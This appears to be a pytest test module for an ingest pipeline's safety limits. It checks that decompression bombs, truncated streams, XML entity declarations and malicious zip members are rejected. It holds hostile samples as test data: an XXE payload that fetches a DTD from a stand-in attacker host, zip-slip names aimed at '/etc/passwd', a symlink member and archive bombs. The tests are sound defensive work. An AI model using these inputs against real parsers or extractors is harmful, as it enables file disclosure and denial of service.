"""Limits that readers share: compressed data, XML and archives that mean harm."""

from __future__ import annotations

import gzip
import io
import tracemalloc
import zipfile
from collections.abc import Iterable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingest.fetching.limits import bounded, gunzipped, refuse_entities, zip_members
from ingest.fetching.unpacking import unpack
from rag.errors import SourceRejected
from tests.ingest.site.feeds import ATOM, RSS
from tests.ingest.site.hostile import LAUGHS, OUTSIDE, zeros
from tests.ingest.site.page import PACKERS

MEGABYTE = 2**20


def pieces(data: bytes, size: int) -> Iterable[bytes]:
    return (data[start : start + size] for start in range(0, len(data), size))


@given(
    st.binary(max_size=4000), st.integers(1, 999), st.lists(st.sampled_from([*PACKERS]), max_size=3)
)
def test_what_is_packed_comes_out_as_it_went_in(data: bytes, size: int, how: list[str]) -> None:
    packed = data
    for name in how:
        packed = PACKERS[name](packed)
    codings = [name.removeprefix("raw ") for name in how]
    found = b"".join(unpack(pieces(packed, size), codings, source="x", largest=MEGABYTE))
    assert found == data


@pytest.mark.parametrize("packer", ["gzip", "br", "zstd"])
def test_a_bomb_is_told_without_the_memory_that_it_asks_for(packer: str) -> None:
    bomb = zeros(packer, 128)
    tracemalloc.start()
    with pytest.raises(SourceRejected, match="larger than 1 MB"):
        b"".join(unpack([bomb], [packer], source="x", largest=MEGABYTE))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 4 * MEGABYTE


@pytest.mark.parametrize("packer", ["gzip", "deflate", "br"])
def test_what_ends_early_is_not_taken_for_a_whole(packer: str) -> None:
    packed = PACKERS[packer](bytes(range(256)) * 40)
    with pytest.raises(SourceRejected, match="ends early"):
        b"".join(unpack([packed[: len(packed) // 2]], [packer], source="x", largest=MEGABYTE))


def test_endless_nothings_are_too_much_too() -> None:
    nothings = gzip.compress(b"") * 100_000
    with pytest.raises(SourceRejected, match="larger than 1 MB"):
        b"".join(unpack(pieces(nothings, 4096), ["gzip"], source="x", largest=MEGABYTE))


def test_bytes_after_the_end_are_passed_over() -> None:
    assert gunzipped(gzip.compress(b"words") + b"\0" * 512, source="x") == b"words"


def test_a_zstd_window_of_gigabytes_is_refused() -> None:
    frame = bytes.fromhex("28b52ffd") + b"\x00" + b"\xa8" + b"\x01\x00\x00"
    with pytest.raises(SourceRejected, match="not zstd"):
        b"".join(unpack([frame], ["zstd"], source="x", largest=MEGABYTE))


def test_a_stream_is_read_only_as_far_as_it_may_go() -> None:
    stream = io.BytesIO(bytes(10 * MEGABYTE))
    with pytest.raises(SourceRejected, match="larger than 1 MB"):
        bounded(stream, source="x", largest=MEGABYTE)
    assert stream.tell() < 2 * MEGABYTE


NESTED = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><a/>'
)


@pytest.mark.parametrize(
    "data",
    [
        LAUGHS.encode(),
        OUTSIDE.encode(),
        NESTED.encode(),
        LAUGHS.replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16"),
        LAUGHS.replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16-le"),
        b"\xef\xbb\xbf" + LAUGHS.encode(),
        b"\n\n" + LAUGHS.encode(),  # not well-formed, but lenient parsers go on
        LAUGHS.replace('"1.0"', '"1.0" encoding="none-such"').encode(),
        LAUGHS.lower().replace("<!doctype", "<!DOCTYPE").encode(),
    ],
)
def test_xml_that_declares_entities_is_refused(data: bytes) -> None:
    with pytest.raises(SourceRejected, match="entities of its own"):
        refuse_entities(data, source="x")


@pytest.mark.parametrize(
    "data",
    [
        RSS.encode(),
        ATOM.encode(),
        b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://x.example/rss.dtd"><rss/>',
        b"<rss><title>How to write &lt;!ENTITY in XML</title></rss>",
        b"<rss><title><![CDATA[<!ENTITY x 'y'>]]></title></rss>",
        b"<rss><title>cut",
        b"no XML at all",
        b"",
    ],
)
def test_xml_that_declares_none_passes(data: bytes) -> None:
    refuse_entities(data, source="x")


def archive(*members: tuple[str, bytes]) -> zipfile.ZipFile:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in members:
            made.writestr(name, data)
    return zipfile.ZipFile(stream)


@pytest.mark.parametrize(
    "name",
    [
        *("../x.html", "a/../../x.html", "/etc/passwd", "..", "C:\\x.html", "c:x.html"),
        *("..\\x.html", "\\\\server\\x.html", "a/..\\x.html"),
    ],
)
def test_a_name_that_leads_out_of_the_archive_is_a_rejection_and_the_rest_is_read(
    name: str,
) -> None:
    found = list(zip_members(archive((name, b"evil"), ("a/b.html", b"good")), source="z.zip"))
    assert isinstance(found[0], SourceRejected)
    assert found[0].source.startswith("z.zip!")
    assert found[1] == ("a/b.html", b"good")


def test_links_in_an_archive_are_not_followed() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        info = zipfile.ZipInfo("link.html")
        info.external_attr = 0o120777 << 16
        made.writestr(info, "/etc/passwd")
    [found] = zip_members(zipfile.ZipFile(stream), source="z.zip")
    assert isinstance(found, SourceRejected)
    assert "a link" in found.reason


def test_a_large_file_in_an_archive_is_a_rejection_and_too_much_in_all_ends_it() -> None:
    bombs = archive(*((f"{n}.txt", bytes(2 * MEGABYTE)) for n in range(4)), ("last.txt", b"words"))
    found = list(zip_members(bombs, source="z.zip", largest=MEGABYTE))
    assert [isinstance(one, SourceRejected) for one in found] == [True] * 4 + [False]
    with pytest.raises(SourceRejected, match="unpacks to more than 3 MB"):
        list(zip_members(bombs, source="z.zip", largest=2 * MEGABYTE, total=3 * MEGABYTE))
    with pytest.raises(SourceRejected, match="more than 4 files"):
        list(zip_members(bombs, source="z.zip", most=4))


def test_a_damaged_file_in_an_archive_is_a_rejection() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        made.writestr("a.txt", b"words of an article")
    data = stream.getvalue().replace(b"words", b"sword")
    [found] = zip_members(zipfile.ZipFile(io.BytesIO(data)), source="z.zip")
    assert isinstance(found, SourceRejected)
    assert "damaged" in found.reason
